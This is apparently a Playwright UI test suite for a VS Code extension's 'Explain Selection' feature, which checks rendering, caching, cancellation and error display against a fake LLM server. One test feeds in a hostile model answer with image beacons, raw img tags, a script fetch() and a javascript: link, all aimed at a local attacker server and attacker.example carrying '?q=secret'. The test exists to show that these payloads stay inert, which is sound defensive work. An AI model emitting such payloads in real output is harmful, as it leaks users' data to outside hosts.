// Explain Selection driven like a person: chromium + playwright-core against code-server, the
// extension loaded from source, a fake OpenAI-compatible server on 127.0.0.1 in this process.
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import type { Page } from 'playwright-core';
import { FakeLlmServer } from '../../support/fakeLlmServer';
import { explainDemoWorkspace, repoRoot, resultsDir } from '../harness/paths';
import { openFile, runCommand, screenshot, waitForTab, webviewContent } from '../harness/workbench';
import { useUiSession } from '../harness/uiSession';

const ANSWER = [
  '## What `applyDiscount` does',
  '',
  'It **reduces** a total in cents by a percentage and rounds the result to whole cents.',
  '',
  '- A percentage outside 0–100 throws a `RangeError`, so bad input fails loudly.',
  '- `Math.round` keeps the result an integer number of cents.',
].join('\n');

/** Puts the cursor on the first line of `applyDiscount` and selects the whole function (6 lines). */
async function selectApplyDiscount(page: Page): Promise<void> {
  const lines = page.locator('.editor-instance .monaco-editor .view-lines').first();
  await lines.locator('.view-line', { hasText: 'export function applyDiscount' }).click();
  await page.keyboard.press('Home');
  await page.keyboard.press('Home'); // the first Home may stop at the indentation
  for (let i = 0; i < 5; i++) {
    await page.keyboard.press('Shift+ArrowDown');
  }
  await page.keyboard.press('Shift+End');
  await page.locator('.editor-instance .monaco-editor .selected-text').first().waitFor({ timeout: 5_000 });
}

async function until(what: string, condition: () => boolean, timeoutMs = 15_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) {
      throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    }
    await new Promise((r) => setTimeout(r, 50));
  }
}

function chatBodies(llm: FakeLlmServer): string[] {
  return llm.requests.filter((r) => r.path.endsWith('/chat/completions')).map((r) => JSON.stringify(r.body));
}

describe('Explain Selection in the real editor (UI)', function () {
  this.timeout(120_000);
  const session = useUiSession({ workspace: explainDemoWorkspace, label: 'explain' });
  const page = (): Page => session.page();

  it('selects a function, runs "Routecraft: Explain Selection" from F1, and reads the rendered answer', async function () {
    const p = page();
    await openFile(p, 'src/pricing.ts');
    await selectApplyDiscount(p);
    session.llm().enqueue({ kind: 'text', text: ANSWER, chunkSize: 12, chunkDelayMs: 15 });
    const before = chatBodies(session.llm()).length;

    await runCommand(p, 'Routecraft: Explain Selection');

    await waitForTab(p, 'Explain');
    const view = webviewContent(p);
    await view.locator('#content h2', { hasText: 'What applyDiscount does' }).waitFor({ timeout: 30_000 });
    await view.locator('#content strong', { hasText: 'reduces' }).waitFor();
    await view.locator('#content li code', { hasText: 'Math.round' }).waitFor();
    await view.locator('#footer', { hasText: 'fake-model' }).waitFor({ timeout: 10_000 });
    assert.equal(await view.locator('#content h2').count(), 1, 'the heading is rendered once, as HTML, not as "##" text');

    const bodies = chatBodies(session.llm()).slice(before);
    assert.equal(bodies.length, 1, 'one chat request');
    assert.ok(bodies[0]?.includes('export function applyDiscount(totalCents: number, percent: number): number'), 'the request carries the selected code');

    const shot = process.env.UPDATE_SCREENSHOT === '1'
      ? path.join(repoRoot, 'media', 'screenshot-explain.png')
      : path.join(resultsDir, 'screenshot-explain.png');
    await p.mouse.move(0, 0); // no hover tooltips in the picture
    await p.keyboard.press('Control+B'); // hide the side bar: more room for the code in the README picture
    await p.locator('.part.sidebar').waitFor({ state: 'hidden', timeout: 5_000 });
    await screenshot(p, 'screenshot-explain', shot);
    await p.keyboard.press('Control+B');

    // The same question again: answered from the cache, at once, and the footer says so.
    await runCommand(p, 'Routecraft: Explain Selection');
    await webviewContent(p).locator('#footer', { hasText: 'from cache, 0 tokens' }).waitFor({ timeout: 15_000 });
    assert.equal(chatBodies(session.llm()).length, before + 1, 'no second request');
    await p.locator('.statusbar-item', { hasText: 'tok' }).first().waitFor({ timeout: 10_000 });
  });

  it('cancels a slow answer with Cancel on its progress notification', async function () {
    const p = page();
    await selectApplyDiscount(p);
    session.llm().enqueue({ kind: 'hang' });
    const requestsBefore = session.llm().requests.length;
    const disconnectsBefore = session.llm().clientDisconnects;

    await runCommand(p, 'Routecraft: Explain Selection (Skip Cache)');
    await webviewContent(p).locator('#status', { hasText: 'Asking fake-model' }).waitFor({ timeout: 15_000 });

    // With enable-smoke-test-driver the workbench never shows toasts (NotificationsToasts.addToast
    // bails out), so open the notification center from the status-bar bell, as a person could.
    await p.locator('[id="status.notifications"]').click();
    const item = p.locator('.notifications-center .notification-list-item', { hasText: 'Explaining' }).first();
    await item.waitFor({ timeout: 15_000 });
    await until('the request to reach the fake server', () => session.llm().requests.length > requestsBefore);
    await item.getByRole('button', { name: 'Cancel' }).click();

    await webviewContent(p).locator('#error', { hasText: 'Cancelled' }).waitFor({ timeout: 15_000 });
    await session.llm().waitForClientDisconnects(disconnectsBefore + 1, 10_000);
    await item.waitFor({ state: 'detached', timeout: 10_000 });
    await p.keyboard.press('Escape');
  });

  it('shows a server error in the panel and as an error notification naming the server', async function () {
    const p = page();
    await selectApplyDiscount(p);
    session.llm().enqueue({ kind: 'status', status: 500, body: { error: { message: 'model exploded', type: 'server_error' } } });
    const server = session.llm().baseUrl.replace(/\/v1$/, '');

    await runCommand(p, 'Routecraft: Explain Selection (Skip Cache)');

    await webviewContent(p).locator('#error', { hasText: server }).waitFor({ timeout: 15_000 });
    await p.locator('[id="status.notifications"]').click();
    const item = p.locator('.notifications-center .notification-list-item', { hasText: server }).first();
    await item.waitFor({ timeout: 10_000 });
    assert.ok(await item.locator('.codicon-error').count() > 0, 'it is an error notification');
    await p.keyboard.press('Escape');
  });
  it('renders a hostile answer without fetching anything: images, raw HTML and javascript: links stay text', async function () {
    // The "attacker": a local HTTP server that records every request. Its port also appears under
    // https://, which the old CSP (img-src https:) would have let the webview request.
    const hits: string[] = [];
    const attacker = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'image/png' }).end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const origin = `127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    const browserRequests: string[] = [];
    const record = (request: { url(): string }): void => {
      if (request.url().includes(origin) || request.url().includes('q=secret')) {
        browserRequests.push(request.url());
      }
    };
    const p = page();
    p.context().on('request', record);
    try {
      await openFile(p, 'src/pricing.ts');
      await selectApplyDiscount(p);
      session.llm().enqueue({
        kind: 'text',
        text: [
          '## Hostile answer',
          '',
          `![x](https://${origin}/md.png?q=secret) ![y](http://${origin}/md-http.png?q=secret)`,
          '',
          `<img src="https://${origin}/raw.png?q=secret"><img src="http://${origin}/raw-http.png?q=secret">`,
          '',
          `<script>fetch("http://${origin}/script?q=secret")</script>`,
          '',
          `[click me](javascript:fetch('http://${origin}/js?q=secret')) and [docs](https://attacker.example/docs?q=secret)`,
        ].join('\n'),
      });
      await runCommand(p, 'Routecraft: Explain Selection (Skip Cache)');
      const view = webviewContent(p);
      await view.locator('#content h2', { hasText: 'Hostile answer' }).waitFor({ timeout: 30_000 });
      await view.locator('#footer', { hasText: 'fake-model' }).waitFor({ timeout: 15_000 });
      assert.equal(await view.locator('#content img, #content script, #content iframe').count(), 0, 'no loading element');
      assert.equal(await view.locator('#content [src], #content [href]').count(), 0, 'no src or href attribute');
      assert.equal(await view.locator('#content .image-as-text').count(), 2, 'both Markdown images shown as text');
      assert.equal(await view.locator('#content a[data-href]').count(), 1, 'only the https link is a link');
      await view.locator('#content', { hasText: 'javascript:fetch' }).waitFor({ timeout: 5_000 });

      // The one link opens through VS Code's opener, which asks first (for a site that is not
      // localhost or a trusted domain); declining fetches nothing.
      await view.locator('#content a[data-href]').click();
      const dialog = p.locator('.monaco-dialog-box', { hasText: 'attacker.example' });
      await dialog.waitFor({ timeout: 15_000 });
      await dialog.getByRole('button', { name: 'Cancel' }).click();
      await dialog.waitFor({ state: 'detached', timeout: 10_000 });
      await new Promise((r) => setTimeout(r, 1_500));
      assert.deepEqual(hits, [], 'the attacker server saw no request');
      assert.deepEqual(browserRequests, [], 'the browser issued no request to the attacker');
    } finally {
      p.context().off('request', record);
      await new Promise<void>((resolve) => attacker.close(() => resolve()));
    }
  });
});
